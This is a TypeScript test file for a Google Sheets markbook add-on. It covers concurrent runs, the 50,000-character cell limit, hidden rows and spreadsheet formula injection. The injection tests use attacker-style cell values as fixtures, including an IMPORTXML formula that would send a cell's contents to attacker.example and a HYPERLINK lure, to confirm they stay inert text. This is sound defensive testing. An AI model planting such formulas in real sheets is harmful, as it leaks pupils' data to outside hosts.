/**
 * The add-on against careless and hostile use (issue 8): two runs at once, cells near Sheets'
 * 50,000-character limit, hidden and filtered rows, and formulas typed into a markbook.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import type {
  AddOnOptions,
  AnalysisReport,
  SaveSettingsResult,
  SelfReviewReport,
} from '../../apps-script/server/api';
import { type Cell, FakeSpreadsheet, fakeServices, MAX_CELL_CHARACTERS } from './fake-sheets';
import { type AddOn, ensureBuilt, loadAddOn } from './harness';
import { PUPIL_COUNT, YEAR_8_ENGLISH } from './markbooks';

const OUTPUTS = ['Targets', 'Flags', 'Groups', 'Summary', 'Trajectory log'];
const MARKBOOK = '8EN2';
const BUSY = /^Trajectory is already running in this spreadsheet/;

beforeAll(ensureBuilt);

const analyse = (addOn: AddOn) => addOn.callFromSidebar<AnalysisReport>('analyseActiveSheet');
const sheet = (addOn: AddOn, name: string) => {
  const found = addOn.book.getSheetByName(name);
  if (found === null) throw new Error(`no sheet '${name}'`);
  return found;
};
const records = (addOn: AddOn, name: string) => {
  const [, header, ...rows] = sheet(addOn, name).snapshot();
  return rows.map((row) => Object.fromEntries(header!.map((heading, i) => [String(heading), row[i]])));
};
const ownSheets = (addOn: AddOn) => JSON.parse(addOn.properties.get('trajectory.ownSheets') ?? '{}');

/** Starts `second` from inside the first run's write of `sheetName`, as a second tab or colleague would. */
function duringWriteOf<T>(addOn: AddOn, sheetName: string, second: () => T): { result: () => T | undefined } {
  let result: T | undefined;
  let started = false;
  addOn.book.afterWrite = (written) => {
    if (written !== sheetName || started) return;
    started = true;
    result = second();
  };
  return { result: () => result };
}

describe('two runs at once', () => {
  it('an analysis started during another one says another run is in progress; the first ends cleanly', () => {
    const addOn = loadAddOn(MARKBOOK, YEAR_8_ENGLISH);
    const second = duringWriteOf(addOn, 'Targets', () => analyse(addOn));
    const first = analyse(addOn);
    expect(first.problem).toBeNull();
    expect(first.written).toEqual(OUTPUTS);
    expect(second.result()?.problem).toMatch(BUSY);
    expect(second.result()?.written).toEqual([]);
    expect(addOn.book.getSheets().map((s) => s.getName())).toEqual([MARKBOOK, ...OUTPUTS]);
    expect(records(addOn, 'Targets')).toHaveLength(PUPIL_COUNT);
    // Let go at the end, and flushed first: the next run goes ahead.
    expect(addOn.book.lockHolder).toBeNull();
    expect(addOn.book.flushes).toBe(1);
    addOn.book.afterWrite = undefined;
    expect(analyse(addOn).problem).toBeNull();
  });

  it('a summary started during an analysis waits its turn, and no record of a sheet is lost', () => {
    const addOn = loadAddOn(MARKBOOK, YEAR_8_ENGLISH);
    addOn.run('createSelfReviewGrid');
    addOn.book.getSheetByName(MARKBOOK)!.activate();
    const summary = duringWriteOf(addOn, 'Flags', () =>
      addOn.callFromSidebar<SelfReviewReport>('writeSelfReviewSummary'),
    );
    expect(analyse(addOn).problem).toBeNull();
    expect(summary.result()?.problem).toMatch(BUSY);
    addOn.book.afterWrite = undefined;
    const again = addOn.callFromSidebar<SelfReviewReport>('writeSelfReviewSummary');
    expect(again.problem).toBeNull();
    expect(again.written).toBe('Self-review summary');
    expect(Object.keys(ownSheets(addOn)).sort()).toEqual([...OUTPUTS, 'Self-review summary'].sort());
    // And summarising again still works: the record was merged, not overwritten.
    expect(addOn.callFromSidebar<SelfReviewReport>('writeSelfReviewSummary').problem).toBeNull();
    expect(addOn.book.getSheetByName(MARKBOOK)).not.toBeNull();
    addOn.book.getSheetByName(MARKBOOK)!.activate();
    expect(analyse(addOn).problem).toBeNull();
  });

  it('settings saved during an analysis are refused with the same message, and nothing is saved', () => {
    const addOn = loadAddOn(MARKBOOK, YEAR_8_ENGLISH);
    const save = duringWriteOf(addOn, 'Groups', () =>
      addOn.callFromSidebar<SaveSettingsResult>('saveSettings', { thresholds: { groupSize: 4 } }),
    );
    analyse(addOn);
    expect(save.result()).toEqual({ ok: false, problems: [expect.stringMatching(BUSY)] });
    expect(addOn.properties.has('trajectory.markbookSettings')).toBe(false);
  });

  it('from the menu, a second run shows the message in an alert', () => {
    const addOn = loadAddOn(MARKBOOK, YEAR_8_ENGLISH);
    duringWriteOf(addOn, 'Summary', () => addOn.run('analyseFromMenu'));
    addOn.run('analyseFromMenu');
    expect(addOn.alerts.map((alert) => alert.prompt)).toEqual([expect.stringMatching(BUSY)]);
    expect(addOn.book.toasts).toHaveLength(1);
  });

  it('a run that fails still lets go of the lock', () => {
    const addOn = loadAddOn(MARKBOOK, YEAR_8_ENGLISH);
    addOn.book.afterWrite = () => {
      throw new Error('Service Spreadsheets timed out while accessing document.');
    };
    expect(() => analyse(addOn)).toThrow('timed out');
    expect(addOn.book.lockHolder).toBeNull();
    addOn.book.afterWrite = undefined;
    sheet(addOn, MARKBOOK).activate();
    expect(analyse(addOn).problem).toBeNull();
  });
});

describe("Sheets' limit of 50,000 characters a cell", () => {
  /** Every cell the teacher could fill is 49,000 characters long. */
  const long = (letter: string) =>
    `${letter} ${'Reading catch-up with Mrs Shah; '.repeat(1600)}`.slice(0, 49_000);
  const markbook: Cell[][] = [
    ['Name', 'KS2 Level', 'Autumn 1', 'Spring 1', 'AF2 Reading', 'Intervention', long('Notes')],
    [long('Ava'), '4b', '4a', long('5'), '4a', long('Since'), long('N')],
    ['Ben Carter', '3c', '3c', '3c', long('3'), long('Since'), ''],
    ['Chloe Evans', '5c', long('5b'), '4c', '4a', 'Reading catch-up', ''],
  ];

  it('writes every output sheet, no cell over the limit, with long values quoted short', () => {
    const addOn = loadAddOn('Year 8', markbook);
    const report = analyse(addOn);
    expect(report.problem).toBeNull();
    expect(report.written).toEqual(OUTPUTS);
    const longest = Math.max(
      ...OUTPUTS.flatMap((name) =>
        sheet(addOn, name)
          .snapshot()
          .flat()
          .map((cell) => String(cell).length),
      ),
    );
    expect(longest).toBeLessThanOrEqual(MAX_CELL_CHARACTERS / 10);
    for (const row of records(addOn, 'Trajectory log')) {
      expect(String(row.Value).length, String(row.Cell)).toBeLessThanOrEqual(100);
      expect(String(row.Problem).length, String(row.Cell)).toBeLessThan(400);
    }
    expect(records(addOn, 'Trajectory log').map((row) => row.Cell)).toEqual(
      expect.arrayContaining(['D2', 'E3', 'C4']),
    );
    const ben = records(addOn, 'Targets').find((row) => row.Pupil === 'Ben Carter');
    expect(String(ben?.Intervention)).toMatch(/^Since Reading catch-up.*…$/);
    // The sidebar gets the same short quotations, not megabytes of the teacher's text.
    expect(JSON.stringify(report).length).toBeLessThan(20_000);
  });

  it('summarises a self-review grid with a 49,000-character rating, quoting it short', () => {
    const addOn = loadAddOn(MARKBOOK, YEAR_8_ENGLISH);
    addOn.run('createSelfReviewGrid');
    const grid = sheet(addOn, 'Self-review');
    const cells = grid.snapshot();
    const rowOf = (ref: string) => cells.findIndex((row) => row[0] === ref) + 1;
    grid.setCell(rowOf('teaching.a'), 3, 2);
    grid.setCell(rowOf('targets.b'), 3, long('good'));
    const report = addOn.callFromSidebar<SelfReviewReport>('writeSelfReviewSummary');
    expect(report.problem).toBeNull();
    const summary = sheet(addOn, 'Self-review summary').snapshot().flat().map(String);
    expect(Math.max(...summary.map((cell) => cell.length))).toBeLessThanOrEqual(MAX_CELL_CHARACTERS / 10);
    expect(summary.some((cell) => cell.startsWith('good Reading catch-up') && cell.endsWith('…'))).toBe(true);
  });

  it('leaves an output sheet as it was when a value could not be written, rather than clearing it', async () => {
    const book = new FakeSpreadsheet(Date);
    book.addSheet(MARKBOOK, YEAR_8_ENGLISH);
    const services = fakeServices(book, '');
    Object.assign(globalThis, services.globals);
    const { writeOutputSheet } = await import('../../apps-script/server/sheets');
    const layout = {
      name: 'Targets',
      rows: [['Targets'], ['Ava Thompson']],
      frozenRows: 1,
      headingRows: [],
      columnWidths: [100],
      wrapColumns: [],
      numberFormats: [],
    };
    writeOutputSheet(book as never, layout);
    const before = book.getSheetByName('Targets')!.snapshot();
    expect(() =>
      writeOutputSheet(book as never, {
        ...layout,
        rows: [['Targets'], ['x'.repeat(MAX_CELL_CHARACTERS + 1)]],
      }),
    ).toThrow("'Targets'!A2 would hold more than 50000 characters");
    expect(book.getSheetByName('Targets')!.snapshot()).toEqual(before);
  });

  it('the fake Sheets refuses a longer cell, as the real one does, and writes none of the range', () => {
    const book = new FakeSpreadsheet(Date);
    const target = book.addSheet('Sheet1', [['kept']]);
    expect(() =>
      target.getRange(1, 1, 1, 2).setValues([['new', 'y'.repeat(MAX_CELL_CHARACTERS + 1)]]),
    ).toThrow('more than the maximum of 50000 characters in a single cell');
    expect(target.snapshot()).toEqual([['kept']]);
  });
});

describe('hidden and filtered rows', () => {
  // Row 5 is Ben Carter's, hidden by the teacher; row 9 Finley Walker's, hidden by a filter.
  const hidden = (addOn: AddOn) => {
    const markbook = sheet(addOn, MARKBOOK);
    markbook.hideRows(5);
    markbook.filterHiding([9]);
    return markbook;
  };

  it('are left out by default, and the log and the sidebar say which', () => {
    const addOn = loadAddOn(MARKBOOK, YEAR_8_ENGLISH);
    hidden(addOn);
    const report = analyse(addOn);
    expect(report.hiddenRows).toEqual({ rows: [5, 9], skipped: true });
    expect(report.pupils).toBe(PUPIL_COUNT - 2);
    const pupils = records(addOn, 'Targets').map((row) => row.Pupil);
    expect(pupils).not.toContain('Ben Carter');
    expect(pupils).not.toContain('Finley Walker');
    expect(pupils).toContain('Chloe Evans');
    // Finley's unreadable '4bb' is in a hidden row, so it is not reported either.
    const log = records(addOn, 'Trajectory log');
    expect(log.map((row) => row.Cell)).not.toContain('J9');
    expect(log[0]).toMatchObject({
      Cell: 'Rows 5 and 9',
      Problem: expect.stringMatching(
        /^2 pupil rows are hidden in the markbook \(by you or a filter\), so they were left out/,
      ),
    });
  });

  it('are analysed with the rest when the teacher chooses, and the log says so', () => {
    const addOn = loadAddOn(MARKBOOK, YEAR_8_ENGLISH);
    hidden(addOn);
    expect(addOn.callFromSidebar<SaveSettingsResult>('saveOptions', { hiddenRows: 'analyse' })).toEqual({
      ok: true,
    });
    expect(addOn.callFromSidebar<AddOnOptions>('getOptions')).toEqual({ hiddenRows: 'analyse' });
    const report = analyse(addOn);
    expect(report).toMatchObject({ pupils: PUPIL_COUNT, hiddenRows: { rows: [5, 9], skipped: false } });
    expect(records(addOn, 'Trajectory log')[0]?.Problem).toMatch(/were analysed with the rest/);
  });

  it('from the menu, the toast says how many hidden rows were left out', () => {
    const addOn = loadAddOn(MARKBOOK, YEAR_8_ENGLISH);
    hidden(addOn);
    addOn.run('analyseFromMenu');
    expect(addOn.book.toasts[0]).toMatch(/^12 pupils analysed; .* 2 hidden rows left out\. See the Targets/);
  });

  it('a choice that is not one is refused', () => {
    const addOn = loadAddOn(MARKBOOK, YEAR_8_ENGLISH);
    expect(
      addOn.callFromSidebar<SaveSettingsResult>('saveOptions', { hiddenRows: 'sometimes' }),
    ).toMatchObject({
      ok: false,
    });
    expect(addOn.callFromSidebar<AddOnOptions>('getOptions')).toEqual({ hiddenRows: 'skip' });
  });

  it('are found with one call a pupil, and one more for the filter: no more when none are hidden', () => {
    const plain = loadAddOn(MARKBOOK, YEAR_8_ENGLISH);
    expect(analyse(plain).hiddenRows).toEqual({ rows: [], skipped: false });
    expect(plain.book.rowStateCalls(MARKBOOK)).toBe(PUPIL_COUNT + 1);
    expect(plain.book.reads(MARKBOOK)).toBe(1);
    const filtered = loadAddOn(MARKBOOK, YEAR_8_ENGLISH);
    hidden(filtered);
    analyse(filtered);
    expect(filtered.book.rowStateCalls(MARKBOOK)).toBeLessThanOrEqual(2 * PUPIL_COUNT + 1);
  });

  it('says so when every pupil row is hidden, and writes nothing', () => {
    const addOn = loadAddOn(MARKBOOK, YEAR_8_ENGLISH);
    sheet(addOn, MARKBOOK).hideRows(4, PUPIL_COUNT);
    const report = analyse(addOn);
    expect(report.problem).toMatch(/^Every pupil row of this sheet is hidden/);
    expect(report.written).toEqual([]);
  });
});

describe('formulas in a markbook are never evaluated in Trajectory’s sheets', () => {
  const markbook: Cell[][] = [
    ['Name', 'KS2 Level', '=Autumn 1', '+Spring 1', '@Test 1 /20', 'Intervention', '-AF2 Reading'],
    [
      '=IMPORTXML("http://attacker.example/?q="&B2,"//a")',
      '4b',
      '4a',
      '5c',
      '12',
      '=HYPERLINK("http://attacker.example","Click")',
      '4a',
    ],
    ['+Ben Carter', '3c', '-3b', '@SUM(A1)', '=1+1', '-2+3', '3c'],
    ['@Chloe Evans', '5c', '5b', '5a', '15', '+cmd', '=5a'],
    ['-Daniel Hughes', '4c', '4c', '3a', '9', '', '4c'],
  ];

  it('a name, a header or any cell starting with = + - or @ is written as text', () => {
    const addOn = loadAddOn('Year 8', markbook);
    const report = analyse(addOn);
    expect(report.problem).toBeNull();
    expect(addOn.book.formulas).toEqual([]);
    const targets = records(addOn, 'Targets');
    expect(targets.map((row) => row.Pupil)).toEqual([
      '=IMPORTXML("http://attacker.example/?q="&B2,"//a")',
      '+Ben Carter',
      '@Chloe Evans',
      '-Daniel Hughes',
    ]);
    expect(targets[0]?.Intervention).toBe('=HYPERLINK("http://attacker.example","Click")');
    const everything = OUTPUTS.flatMap((name) => sheet(addOn, name).snapshot().flat().map(String));
    expect(everything).toContain('=Autumn 1');
    expect(everything.some((cell) => cell.includes("'@SUM(A1)'"))).toBe(true);
    expect(everything).not.toContain('#NAME?');
  });

  it('the fake Sheets does evaluate such a string in a cell not formatted as plain text', () => {
    const book = new FakeSpreadsheet(Date);
    const target = book.addSheet('Sheet1', []);
    target.getRange(1, 1, 1, 3).setValues([['=IMPORTXML("x","y")', '+Ben', '-3']]);
    expect(book.formulas.map((f) => f.cell)).toEqual(['A1', 'B1']);
    expect(target.snapshot()).toEqual([['#NAME?', '#NAME?', -3]]);
    target.getRange('C2').setNumberFormat('@');
    target.getRange('C2').setValues([['=1+1']]);
    expect(target.cell(2, 3)).toBe('=1+1');
  });
});
